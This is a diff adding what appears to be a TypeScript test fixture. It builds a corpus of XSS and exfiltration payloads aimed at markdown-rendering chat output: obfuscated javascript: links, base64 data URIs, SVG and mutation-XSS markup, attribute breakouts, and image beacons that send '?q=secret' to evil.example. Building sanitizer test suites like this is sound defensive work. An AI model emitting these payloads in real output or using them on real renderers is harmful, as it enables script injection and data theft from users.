@@ -1,0 +1,74 @@
+const schemes = [
+  'javascript:window.pwned=1',
+  'JaVaScRiPt:window.pwned=1',
+  'java\tscript:window.pwned=1',
+  '&#106;avascript:window.pwned=1',
+  'javascript&colon;window.pwned=1',
+  'java&Tab;script:window.pwned=1',
+  'javascript\\:window.pwned=1',
+  '%6aavascript:window.pwned=1',
+  '\u0001javascript:window.pwned=1',
+  'vbscript:window.pwned=1',
+  'data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==',
+  'blob:https://evil.example/1',
+  'file:///etc/passwd',
+  'intent://evil.example#Intent;end',
+  '\\\\evil.example/\\x',
+];
+
+const images = [
+  'https://evil.example/leak.png?q=secret',
+  '//evil.example/leak.png',
+  '/\\evil.example/leak.png',
+  'https&colon;//evil.example/leak.png',
+  'https://ok.example@evil.example/leak.png',
+  'https://ok.example.evil.example/leak.png',
+  '/exfil.png?q=secret',
+  'exfil.png',
+  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5wd25lZD0xIi8+',
+  'data:image/svg+xml,<svg/onload=window.pwned=1>',
+];
+
+const markup = [
+  '<script>window.pwned=1</script>',
+  '<img src=x onerror=window.pwned=1>',
+  '<svg onload=window.pwned=1><script>window.pwned=1</script></svg>',
+  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
+  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+  '<object data="javascript:window.pwned=1"></object><embed src="/exfil.swf">',
+  '<form action="/exfil"><input name=key autofocus onfocus=window.pwned=1><button>Go</button></form>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=/exfil">',
+  '<link rel=stylesheet href="/exfil.css"><style>@import "/exfil.css"</style>',
+  '<details open ontoggle=window.pwned=1><summary>x</summary></details>',
+  '<template><script>window.pwned=1</script></template>',
+  '<!--><img src=x onerror=window.pwned=1>-->',
+  '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
+  '<nusantara-chat base-url="https://evil.example"></nusantara-chat>',
+  '<video poster="/exfil.png"><source onerror=window.pwned=1></video>',
+  '<p style="background:url(/exfil.png)">x</p>',
+];
+
+/** Text a model might be made to write, so that a page runs, loads or leads to what it should not. */
+export const attacks: readonly string[] = [
+  ...schemes.flatMap((scheme) => [
+    `[a](${scheme}) ![b](${scheme})`,
+    `[a](<${scheme}>)\n\n<${scheme}>`,
+    `[a][x] [x]\n\n[x]: <${scheme}>`,
+    `> - # [a](<${scheme}> "t")\n\n| [a](<${scheme}>) |\n|-|\n| <${scheme}> |`,
+  ]),
+  ...images.flatMap((image) => [
+    `![a](<${image}>) [![b](<${image}>)](<${image}>)`,
+    `![a][x] ![x]\n\n[x]: <${image}>\n\n| ![c](<${image}>) |\n|-|`,
+  ]),
+  ...markup.flatMap((html) => [
+    html,
+    `text ${html} text`,
+    `- > ${html}\n\n\`\`\`html\n${html}\n\`\`\``,
+  ]),
+  '```"><script>window.pwned=1</script>\ncode\n```',
+  '```js" onmouseover="window.pwned=1\ncode\n```',
+  '[a](/b "\\" onmouseover=window.pwned=1 x=\\"") ![" onerror=window.pwned=1 x="](/x)',
+  '[__proto__] [constructor] [hasOwnProperty]\n\n[__proto__]: javascript:window.pwned=1',
+  '[click](https://bank.example@evil.example "https://bank.example")',
+];
